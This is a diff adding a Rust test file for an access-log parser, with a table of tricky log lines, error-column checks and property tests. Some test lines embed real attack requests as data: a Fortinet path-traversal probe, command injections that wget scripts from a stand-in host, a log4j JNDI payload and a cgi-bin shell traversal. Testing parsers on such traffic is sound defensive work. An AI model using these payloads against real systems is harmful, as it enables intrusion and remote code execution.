@@ -1,0 +1,313 @@
+//! The table of tricky lines, each with its expected fields, and a round-trip property.
+
+use super::*;
+use proptest::prelude::*;
+
+/// Expected fields of a line: (ip, user, utc time, method, target, protocol, status,
+/// bytes, referer, ua, forwarded, port, host).
+struct Want {
+    ip: &'static str,
+    user: Option<&'static str>,
+    time: &'static str,
+    method: Option<&'static str>,
+    target: Option<&'static str>,
+    protocol: Option<&'static str>,
+    status: Option<u16>,
+    bytes: Option<u64>,
+    referer: Option<&'static str>,
+    ua: Option<&'static str>,
+    forwarded: &'static [&'static str],
+    port: Option<u16>,
+    host: Option<&'static str>,
+}
+
+const BASE: Want = Want {
+    ip: "192.0.2.38",
+    user: None,
+    time: "2022-07-19T11:23:20Z",
+    method: Some("GET"),
+    target: Some("/"),
+    protocol: Some("HTTP/1.1"),
+    status: Some(200),
+    bytes: Some(612),
+    referer: None,
+    ua: None,
+    forwarded: &[],
+    port: None,
+    host: None,
+};
+
+fn check(line: &str, format: Format, want: &Want) {
+    let p = parse_line(line, format).unwrap_or_else(|e| panic!("{line}\n{e:?}"));
+    assert_eq!(p.ip_text, want.ip, "ip of {line}");
+    assert_eq!(p.ip, want.ip.parse::<IpAddr>().unwrap());
+    assert_eq!(p.user, want.user, "user of {line}");
+    assert_eq!(p.time.utc_rfc3339(), want.time, "time of {line}");
+    assert_eq!(p.method, want.method, "method of {line}");
+    assert_eq!(p.target, want.target, "target of {line}");
+    assert_eq!(p.protocol, want.protocol, "protocol of {line}");
+    assert_eq!(p.status, want.status, "status of {line}");
+    assert_eq!(p.bytes, want.bytes, "bytes of {line}");
+    assert_eq!(p.referer, want.referer, "referer of {line}");
+    assert_eq!(p.user_agent, want.ua, "ua of {line}");
+    assert_eq!(p.forwarded_chain().collect::<Vec<_>>(), want.forwarded, "xff of {line}");
+    assert_eq!(p.server_port, want.port, "port of {line}");
+    assert_eq!(p.host, want.host, "host of {line}");
+}
+
+#[test]
+fn tricky_lines_parse() {
+    let table: &[(&str, Want)] = &[
+        // The four example lines of the reference, honeypot format.
+        (
+            r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession HTTP/1.1" 404 232 "-" "Python-urllib/3.8" "-" 443 198.51.100.77"#,
+            Want {
+                target: Some("/remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession"),
+                status: Some(404),
+                bytes: Some(232),
+                ua: Some("Python-urllib/3.8"),
+                port: Some(443),
+                host: Some("198.51.100.77"),
+                ..BASE
+            },
+        ),
+        (
+            r#"2001:db8:1:c84::2de - - [18/Jul/2022:03:31:53 +0200] "GET /favicon.ico HTTP/1.1" 404 232 "-" "Mozilla/5.0 zgrab/0.x" "-" 443 [2001:db8:60::face]"#,
+            Want {
+                ip: "2001:db8:1:c84::2de",
+                time: "2022-07-18T01:31:53Z",
+                target: Some("/favicon.ico"),
+                status: Some(404),
+                bytes: Some(232),
+                ua: Some("Mozilla/5.0 zgrab/0.x"),
+                port: Some(443),
+                host: Some("2001:db8:60::face"),
+                ..BASE
+            },
+        ),
+        (
+            r#"203.0.113.137 - - [19/Jul/2022:05:11:59 +0200] "GET /login.cgi?cli=aa%20aa%27;wget%20http://192.0.2.33/x.sh HTTP/1.1" 400 157 "-" "Hakai/2.0" "-" 80"#,
+            Want {
+                ip: "203.0.113.137",
+                time: "2022-07-19T03:11:59Z",
+                target: Some("/login.cgi?cli=aa%20aa%27;wget%20http://192.0.2.33/x.sh"),
+                status: Some(400),
+                bytes: Some(157),
+                ua: Some("Hakai/2.0"),
+                port: Some(80),
+                ..BASE
+            },
+        ),
+        (
+            r#"198.51.100.9 - - [15/Jul/2022:04:44:54 +0200] "GET / HTTP/1.1" 200 3167 "-" "Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)" "-""#,
+            Want {
+                ip: "198.51.100.9",
+                time: "2022-07-15T02:44:54Z",
+                bytes: Some(3167),
+                ua: Some("Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)"),
+                ..BASE
+            },
+        ),
+        // Empty request, XFF chain, user, referer.
+        (
+            r#"192.0.2.38 - alice [19/Jul/2022:13:23:20 +0200] "" 400 0 "http://a.example/" "-" "203.0.113.5, 198.51.100.2" 443 www.example.org"#,
+            Want {
+                user: Some("alice"),
+                method: None,
+                target: None,
+                protocol: None,
+                status: Some(400),
+                bytes: Some(0),
+                referer: Some("http://a.example/"),
+                forwarded: &["203.0.113.5", "198.51.100.2"],
+                port: Some(443),
+                host: Some("www.example.org"),
+                ..BASE
+            },
+        ),
+        // Binary junk escaped by nginx, no method.
+        (
+            r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "\x16\x03\x01\x00\xA5\x01\x00\x00\xA1\x03\x03" 400 157 "-" "-" "-" 443 -"#,
+            Want {
+                method: None,
+                target: None,
+                protocol: None,
+                status: Some(400),
+                bytes: Some(157),
+                port: Some(443),
+                ..BASE
+            },
+        ),
+        // Protocol-less request, log4j in the UA with escaped quotes.
+        (
+            r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET /shell?cd+/tmp;wget+http://192.0.2.33/a" 404 153 "-" "${jndi:ldap://192.0.2.33:1389/a} \"quoted\" end\\" "-" 80 192.0.2.1"#,
+            Want {
+                target: Some("/shell?cd+/tmp;wget+http://192.0.2.33/a"),
+                protocol: None,
+                status: Some(404),
+                bytes: Some(153),
+                ua: Some(r#"${jndi:ldap://192.0.2.33:1389/a} \"quoted\" end\\"#),
+                port: Some(80),
+                host: Some("192.0.2.1"),
+                ..BASE
+            },
+        ),
+        // Combined (Apache, `-` byte count), common, and CR line ending.
+        (
+            r#"192.0.2.38 - bob [19/Jul/2022:13:23:20 +0200] "POST /cgi-bin/.%2e/%2e%2e/bin/sh HTTP/1.0" 304 - "-" "curl/7.88.1""#,
+            Want {
+                user: Some("bob"),
+                method: Some("POST"),
+                target: Some("/cgi-bin/.%2e/%2e%2e/bin/sh"),
+                protocol: Some("HTTP/1.0"),
+                status: Some(304),
+                bytes: None,
+                ua: Some("curl/7.88.1"),
+                ..BASE
+            },
+        ),
+        (
+            "192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] \"GET / HTTP/1.1\" 200 612\r",
+            Want { ..BASE },
+        ),
+        // Bare method with target containing spaces before the protocol.
+        (
+            r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET /a b HTTP/1.1" 400 0 "-" "-" "-" 443"#,
+            Want {
+                target: Some("/a b"),
+                status: Some(400),
+                bytes: Some(0),
+                port: Some(443),
+                ..BASE
+            },
+        ),
+        // IPv4-mapped client, XFF with a trailing comma, negative offset.
+        (
+            r#"::ffff:192.0.2.7 - - [19/Jul/2022:06:23:20 -0500] "HEAD / HTTP/1.1" 200 0 "-" "-" "198.51.100.2," 8080 [::1]"#,
+            Want {
+                ip: "::ffff:192.0.2.7",
+                method: Some("HEAD"),
+                bytes: Some(0),
+                forwarded: &["198.51.100.2"],
+                port: Some(8080),
+                host: Some("::1"),
+                ..BASE
+            },
+        ),
+    ];
+    for (line, want) in table {
+        check(line, Format::Auto, want);
+    }
+}
+
+#[test]
+fn formats_are_strict_when_asked() {
+    let common = r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET / HTTP/1.1" 200 612"#;
+    let combined = r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET / HTTP/1.1" 200 612 "-" "ua""#;
+    let honeypot = r#"192.0.2.38 - - [19/Jul/2022:13:23:20 +0200] "GET / HTTP/1.1" 200 612 "-" "ua" "-" 443 h"#;
+    assert!(parse_line(common, Format::Common).is_ok());
+    assert!(parse_line(combined, Format::Combined).is_ok());
+    assert!(parse_line(honeypot, Format::Honeypot).is_ok());
+    assert!(parse_line(common, Format::Combined).unwrap_err().reason.contains("expected the referer"));
+    assert!(parse_line(combined, Format::Common).unwrap_err().reason.contains("common format"));
+    assert!(parse_line(honeypot, Format::Combined).unwrap_err().reason.contains("combined format"));
+    assert!(parse_line(combined, Format::Honeypot).unwrap_err().reason.contains("X-Forwarded-For"));
+}
+
+#[test]
+fn errors_say_what_and_where() {
+    let cases: &[(&str, u32, &str)] = &[
+        ("", 1, "empty line"),
+        ("not-an-ip - - [x]", 1, "invalid client address"),
+        ("192.0.2.1 - - 19/Jul/2022:13:23:20 +0200]", 15, "expected '['"),
+        ("192.0.2.1 - - [19/Jul/2022:13:23:20 +0200", 42, "expected ']'"),
+        ("192.0.2.1 - - [19/Jux/2022:13:23:20 +0200] \"GET /\" 200 1", 16, "invalid time"),
+        ("192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] GET / 200 1", 44, "expected '\"' opening the request"),
+        ("192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] \"GET / 200 1", 44, "unterminated request"),
+        ("192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] \"GET /\" abc 1", 52, "expected a status code"),
+        ("192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] \"GET /\" 200 x", 56, "expected a byte count"),
+        ("192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] \"GET /\" 200 1 \"-\" \"ua\" \"-\" http x", 71, "expected a server port"),
+        ("192.0.2.1 - - [19/Jul/2022:13:23:20 +0200] \"GET /\" 200 1 \"-\" \"ua\" \"-\" 80 h extra", 75, "unexpected text after the host"),
+        ("192.0.2.1 - -", 14, "expected '['"),
+    ];
+    for (line, column, needle) in cases {
+        let e = parse_line(line, Format::Auto).expect_err(line);
+        assert_eq!(e.column, *column, "column for {line:?}: {}", e.reason);
+        assert!(e.reason.contains(needle), "{line:?}: {}", e.reason);
+        assert!(e.reason.ends_with(&format!("at column {column}")), "{}", e.reason);
+    }
+}
+
+/// A field value as nginx writes it: no raw `"` or `\` except as escapes.
+fn logged_text() -> impl Strategy<Value = String> {
+    prop::collection::vec(
+        prop_oneof![
+            "[ -!#-\\[\\]-~]{1,8}".prop_map(|s| s),
+            Just("\\\"".to_string()),
+            Just("\\\\".to_string()),
+            "\\\\x[0-9A-F]{2}".prop_map(|s| s),
+            "[é€ü]{1,2}".prop_map(|s| s),
+        ],
+        0..6,
+    )
+    .prop_map(|parts| parts.concat())
+}
+
+proptest! {
+    #[test]
+    fn round_trip(
+        v6 in any::<bool>(),
+        a in any::<u32>(),
+        b in any::<u128>(),
+        user in "[a-z]{1,8}|-",
+        secs in 0i64..4_000_000_000,
+        off_min in -12i32 * 60..14 * 60,
+        method in "[A-Z]{3,7}",
+        target in "/[!-~]{0,40}",
+        status in 100u16..600,
+        bytes in prop::option::of(any::<u64>()),
+        referer in logged_text(),
+        ua in logged_text(),
+        xff in prop::collection::vec(any::<u32>(), 0..3),
+        port in prop::option::of(any::<u16>()),
+        host in prop::option::of("[a-z]{1,10}\\.example"),
+    ) {
+        let ip: IpAddr = if v6 { std::net::Ipv6Addr::from(b).into() } else { std::net::Ipv4Addr::from(a).into() };
+        let target = target.replace('"', "%22").replace('\\', "%5C");
+        let off = time::UtcOffset::from_whole_seconds(off_min * 60).unwrap();
+        let instant = time::OffsetDateTime::from_unix_timestamp(secs).unwrap().to_offset(off);
+        let fmt = time::macros::format_description!("[day]/[month repr:short]/[year]:[hour]:[minute]:[second] [offset_hour sign:mandatory][offset_minute]");
+        let when = instant.format(&fmt).unwrap();
+        let xff_text = if xff.is_empty() { "-".to_string() } else {
+            xff.iter().map(|x| std::net::Ipv4Addr::from(*x).to_string()).collect::<Vec<_>>().join(", ")
+        };
+        let bytes_text = bytes.map_or("-".to_string(), |b| b.to_string());
+        let field = |s: &str| if s.is_empty() { "-".to_string() } else { s.to_string() };
+        let mut line = format!(
+            "{ip} - {user} [{when}] \"{method} {target} HTTP/1.1\" {status} {bytes_text} \"{}\" \"{}\" \"{xff_text}\"",
+            field(&referer), field(&ua)
+        );
+        if let Some(port) = port {
+            line.push_str(&format!(" {port}"));
+            if let Some(h) = &host { line.push_str(&format!(" {h}")); }
+        }
+        let p = parse_line(&line, Format::Auto).map_err(|e| TestCaseError::fail(format!("{line}: {e:?}")))?;
+        prop_assert_eq!(p.ip, ip);
+        prop_assert_eq!(p.user, (user != "-").then_some(user.as_str()));
+        prop_assert_eq!(p.time.instant, instant);
+        prop_assert_eq!(p.method, Some(method.as_str()));
+        prop_assert_eq!(p.target, Some(target.as_str()));
+        prop_assert_eq!(p.status, Some(status));
+        prop_assert_eq!(p.bytes, bytes);
+        prop_assert_eq!(p.referer, (!referer.is_empty() && referer != "-").then_some(referer.as_str()));
+        prop_assert_eq!(p.user_agent, (!ua.is_empty() && ua != "-").then_some(ua.as_str()));
+        prop_assert_eq!(p.forwarded_chain().count(), xff.len());
+        prop_assert_eq!(p.server_port, port);
+        prop_assert_eq!(p.host, port.and(host.as_deref()));
+    }
+
+    #[test]
+    fn never_panics(line in "\\PC{0,200}") {
+        let _ = parse_line(&line, Format::Auto);
+    }
+}
